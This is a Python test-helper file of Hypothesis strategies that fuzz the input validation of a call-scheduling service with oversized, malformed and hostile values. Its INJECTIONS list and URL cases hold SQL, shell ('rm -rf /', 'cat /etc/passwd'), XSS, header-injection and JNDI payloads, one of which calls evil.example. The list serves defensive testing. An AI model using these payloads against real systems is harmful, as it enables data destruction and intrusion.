"""Hypothesis strategies for hostile input: every field of a call request, schedules, CLI args.

Each field strategy mixes values that should pass with values that must not, so a property sees
both outcomes: oversized strings, control characters, invalid UTF-8 (bytes decoded with
surrogateescape, lone surrogates), numbers from every region, injection-shaped text, huge lists.
"""

from __future__ import annotations

import json
import zoneinfo
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import phonenumbers
from hypothesis import strategies as st

from dialq.validation.fields import SUPPORTED_LANGUAGES

CALL_FIELDS = (
    "phone_number",
    "sip_uri",
    "dtmf",
    "session_name",
    "summary_emails",
    "languages",
    "timezone",
    "max_duration_s",
    "account",
    "callback_url",
    "priority",
    "not_before",
    "idempotency_key",
)

SCHEDULE_FIELDS = (
    "name",
    "call",
    "cron",
    "every",
    "at",
    "timezone",
    "start",
    "end",
    "count",
    "misfire_grace",
    "overlap",
    "enabled",
)

# Shaped like attacks on whatever might later read the value: SQL, a shell, a browser, HTTP.
INJECTIONS = (
    "'; DROP TABLE calls; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM events;--",
    "$(rm -rf /)",
    "`touch /tmp/pwned`",
    "a; cat /etc/passwd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\r\nX-Injected: yes",
    "x\r\n\r\n<html>",
    "%0d%0aSet-Cookie: a=b",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\x00",
    "\u202e\u2066reversed",
)
# Markers that a rejection message must never repeat (it would echo the input into logs).
INJECTION_MARKERS = ("DROP TABLE", "<script>", "X-Injected", "rm -rf", "Set-Cookie", "jndi")

REGIONS = sorted(phonenumbers.SUPPORTED_REGIONS)
EXAMPLE_NUMBERS = {
    region: number
    for region in REGIONS
    if (number := phonenumbers.example_number(region)) is not None
}
NANP_NUMBERS = ("+14155550123", "(415) 555-0123", "415.555.0199", "+1 613 555 0100", "2125550100")

control_chars = st.characters(codec=None, categories=["Cc"])
lone_surrogates = st.characters(categories=["Cs"])
invalid_utf8 = st.binary(min_size=1, max_size=40).map(
    lambda raw: raw.decode("utf-8", errors="surrogateescape")
)


def _oversized(base: st.SearchStrategy[str], sizes: tuple[int, ...]) -> st.SearchStrategy[str]:
    """Long strings built by repetition: cheap to generate at any size."""
    return st.builds(lambda text, n: (text or "x") * n, base, st.sampled_from(sizes))


def _nasty_text() -> st.SearchStrategy[str]:
    """Strings a careless parser or store would choke on."""
    return st.one_of(
        st.text(max_size=30),
        st.text(alphabet=control_chars, min_size=1, max_size=5),
        st.builds(
            lambda a, c, b: a + c + b, st.text(max_size=8), control_chars, st.text(max_size=8)
        ),
        st.builds(lambda a, s: a + s, st.text(max_size=8), lone_surrogates),
        invalid_utf8,
        st.sampled_from(INJECTIONS),
        _oversized(st.text(min_size=1, max_size=3), (65, 201, 513, 2049, 100_000)),
        st.just(""),
        st.just("   "),
    )


def _json_scalars() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        nasty_text(),
    )


def _json_values() -> st.SearchStrategy[Any]:
    """Anything JSON can carry (lone surrogates included: JSON escapes them as \\udXXX)."""
    return st.recursive(
        json_scalars(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner),
        max_leaves=6,
    )


# Short reprs: Hypothesis prints strategies in its reports, and these nest hundreds of values.
def nasty_text() -> st.SearchStrategy[str]:
    return st.deferred(_nasty_text)


def json_scalars() -> st.SearchStrategy[Any]:
    return st.deferred(_json_scalars)


def json_values() -> st.SearchStrategy[Any]:
    return st.deferred(_json_values)


def call_payloads() -> st.SearchStrategy[dict[Any, Any]]:
    return st.deferred(_call_payloads)


def json_payloads() -> st.SearchStrategy[Any]:
    return st.deferred(_json_payloads)


def schedule_specs() -> st.SearchStrategy[dict[Any, Any]]:
    return st.deferred(_schedule_specs)


_NUMBERS = list(EXAMPLE_NUMBERS.values())
_ZONES = sorted(zoneinfo.available_timezones())


def _example_number(index: int, style: int) -> str:
    # Drawn by index: a strategy over hundreds of objects has a repr Hypothesis warns about.
    return phonenumbers.format_number(_NUMBERS[index], style)


def region_numbers() -> st.SearchStrategy[str]:
    """Example numbers of every region phonenumbers knows, as people write them."""
    styles = st.sampled_from(
        [phonenumbers.PhoneNumberFormat.E164, phonenumbers.PhoneNumberFormat.INTERNATIONAL]
    )
    return st.builds(_example_number, st.integers(0, len(_NUMBERS) - 1), styles)


def _zone(index: int) -> str:
    return _ZONES[index]


def phone_numbers() -> st.SearchStrategy[Any]:
    digits = st.text(alphabet="0123456789+-() .", min_size=1, max_size=25)
    return st.one_of(
        st.sampled_from(NANP_NUMBERS),
        region_numbers(),
        digits,
        nasty_text(),
        json_scalars(),
    )


def sip_uris() -> st.SearchStrategy[Any]:
    users = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789._-+", min_size=1, max_size=12)
    valid = st.builds(lambda u: f"sip:{u}@sip.example.com", users)
    return st.one_of(valid, st.just("sips:room@10.0.0.1:5061"), nasty_text(), json_scalars())


def emails() -> st.SearchStrategy[Any]:
    item = st.one_of(st.emails(), st.just("ops@example.com"), nasty_text(), json_scalars())
    huge = st.builds(
        lambda n: [f"user{i}@example.com" for i in range(n)], st.sampled_from((21, 500, 20_000))
    )
    return st.one_of(st.lists(item, max_size=4), huge, st.lists(st.emails(), max_size=20), item)


def timezones() -> st.SearchStrategy[Any]:
    return st.one_of(st.integers(0, len(_ZONES) - 1).map(_zone), nasty_text())


def offsets() -> st.SearchStrategy[timezone]:
    minutes = st.integers(min_value=-(24 * 60 - 1), max_value=24 * 60 - 1)
    return st.builds(lambda m: timezone(timedelta(minutes=m)), minutes)


def iso_times() -> st.SearchStrategy[str]:
    """Date-times as text: ordinary, at the edges of the calendar, with odd offsets, naive."""
    aware = st.builds(
        lambda moment, tz: moment.replace(tzinfo=tz).isoformat(), st.datetimes(), offsets()
    )
    edges = st.sampled_from(
        (
            "9999-12-31T23:59:59-23:59",
            "9999-12-31T23:59:59+00:00",
            "0001-01-01T00:00:00+23:59",
            "0001-01-01T00:00:00Z",
            "2030-02-30T09:00:00Z",
            "2030-01-31T25:00:00Z",
        )
    )
    naive = st.datetimes().map(datetime.isoformat)
    return st.one_of(aware, edges, naive)


def not_befores() -> st.SearchStrategy[Any]:
    soon = st.builds(
        lambda s: (datetime.now(UTC) + timedelta(seconds=s)).isoformat(),
        st.integers(min_value=-86_400, max_value=86_400 * 30),
    )
    return st.one_of(soon, iso_times(), nasty_text(), json_scalars())


def urls() -> st.SearchStrategy[Any]:
    paths = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789/-_", max_size=20)
    valid = st.builds(lambda p: f"https://hooks.example.com/{p}", paths)
    odd = st.sampled_from(
        (
            "https://user:pass@hooks.example.com/x",
            "ftp://hooks.example.com/x",
            "javascript:alert(1)",
            "http://hooks.example.com/\r\nX-Injected: yes",
            "http://hooks.example.com/\x00",
            "http://hooks.example.com/a b",
            "http://[::1]:99999/",
        )
    )
    injected = st.builds(lambda p, bad: f"https://hooks.example.com/{p}{bad}", paths, nasty_text())
    return st.one_of(valid, odd, injected, nasty_text(), json_scalars())


def small_ints() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.integers(min_value=-20, max_value=20_000),
        st.integers(),
        st.booleans(),
        st.floats(allow_nan=False),
        st.text(alphabet="0123456789", min_size=1, max_size=3),
        nasty_text(),
    )


FIELD_VALUES: dict[str, st.SearchStrategy[Any]] = {
    "phone_number": phone_numbers(),
    "sip_uri": sip_uris(),
    "dtmf": st.one_of(st.text(alphabet="0123456789*#,", min_size=1, max_size=140), nasty_text()),
    "session_name": st.one_of(st.text(max_size=250), nasty_text(), json_scalars()),
    "summary_emails": emails(),
    "languages": st.one_of(
        st.lists(st.sampled_from(SUPPORTED_LANGUAGES), max_size=2),
        st.lists(st.sampled_from([c.lower() for c in SUPPORTED_LANGUAGES]), max_size=1),
        st.lists(nasty_text(), max_size=2),
        json_scalars(),
    ),
    "timezone": timezones(),
    "max_duration_s": small_ints(),
    "account": st.one_of(st.just("default"), st.just("sales"), nasty_text(), json_scalars()),
    "callback_url": urls(),
    "priority": small_ints(),
    "not_before": not_befores(),
    "idempotency_key": st.one_of(st.uuids().map(str), nasty_text(), json_scalars()),
}


def _call_payloads() -> st.SearchStrategy[dict[Any, Any]]:
    """A payload with any subset of the known fields, sometimes plus unknown ones."""
    known = st.fixed_dictionaries(
        {}, optional={name: strategy for name, strategy in FIELD_VALUES.items()}
    )
    unknown = st.dictionaries(
        st.one_of(nasty_text(), st.integers(), st.none()), json_scalars(), max_size=2
    )
    return st.builds(lambda a, b: {**b, **a}, known, st.one_of(st.just({}), unknown))


def _json_payloads() -> st.SearchStrategy[Any]:
    """What arrives by name: the payload after a JSON round trip, or not an object at all."""
    as_sent = st.one_of(call_payloads().filter(_json_keys), json_values())
    return as_sent.map(lambda value: json.loads(json.dumps(value)))


def _json_keys(payload: dict[Any, Any]) -> bool:
    # JSON turns keys into strings (or refuses None/int clashes): keep what a client can send.
    return all(isinstance(key, str) for key in payload)


def one_field_changes() -> st.SearchStrategy[tuple[str, Any]]:
    """One known field and a value for it, to add to an otherwise valid payload."""
    return st.sampled_from(sorted(FIELD_VALUES)).flatmap(
        lambda name: st.tuples(st.just(name), FIELD_VALUES[name])
    )


def _schedule_field_values() -> dict[str, st.SearchStrategy[Any]]:
    durations = st.one_of(
        st.sampled_from(("15m", "1h30m", "90", "0", "367d", "999999999h")),
        st.integers(min_value=-5, max_value=10**12),
        nasty_text(),
        st.floats(allow_nan=False),
        st.booleans(),
    )
    dates = st.one_of(
        st.dates().map(lambda d: d.isoformat()),
        iso_times(),
        st.sampled_from(("9999-12-31", "0001-01-01", "2031-03-09T02:30", "2030-11-03T01:30")),
        nasty_text(),
        json_scalars(),
    )
    crons = st.one_of(
        st.sampled_from(("0 9 * * 1-5", "*/15 * * * *", "0 0 31 2 *", "0 9 * * *", "* * * * * *")),
        nasty_text(),
    )
    valid_call = st.fixed_dictionaries(
        {"phone_number": st.sampled_from(NANP_NUMBERS)},
        optional={"session_name": st.text(max_size=20), "priority": st.integers(0, 9)},
    )
    names = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,20}", fullmatch=True)
    return {
        "name": st.one_of(names, names, nasty_text()),
        "call": st.one_of(valid_call, valid_call, call_payloads(), json_scalars()),
        "cron": crons,
        "every": durations,
        "at": dates,
        "timezone": st.one_of(st.sampled_from(("UTC", "America/New_York")), timezones()),
        "start": dates,
        "end": dates,
        "count": small_ints(),
        "misfire_grace": durations,
        "overlap": st.one_of(st.sampled_from(("skip", "allow")), nasty_text()),
        "enabled": st.one_of(st.booleans(), json_scalars()),
    }


def _schedule_specs() -> st.SearchStrategy[dict[Any, Any]]:
    """Mostly one timing (as people write them), any extras; sometimes any mix at all."""
    fields = _schedule_field_values()
    required = {"name": fields["name"], "call": fields["call"]}
    extras = {k: v for k, v in fields.items() if k not in {"name", "call", "cron", "every", "at"}}
    one_timing = st.sampled_from(("cron", "every", "at")).flatmap(
        lambda kind: st.fixed_dictionaries({**required, kind: fields[kind]}, optional=extras)
    )
    optional = {k: v for k, v in fields.items() if k not in required}
    return st.one_of(one_timing, one_timing, st.fixed_dictionaries(required, optional=optional))


Message = tuple[list[Any], dict[str, Any]]


def messages(payloads: st.SearchStrategy[Any]) -> st.SearchStrategy[Message]:
    """(args, kwargs) of a by-name message: mostly kwargs {"request": ...}, sometimes not."""
    return st.one_of(
        payloads.map(lambda p: ([], {"request": p})),
        payloads.map(lambda p: ([], {"request": p})),
        payloads.map(lambda p: ([p], {})),
        st.just(([], {})),
        payloads.map(lambda p: ([], {"requests": p})),
        payloads.map(lambda p: ([], {"request": p, "priority": 9})),
        payloads.map(lambda p: ([p, p], {})),
    )
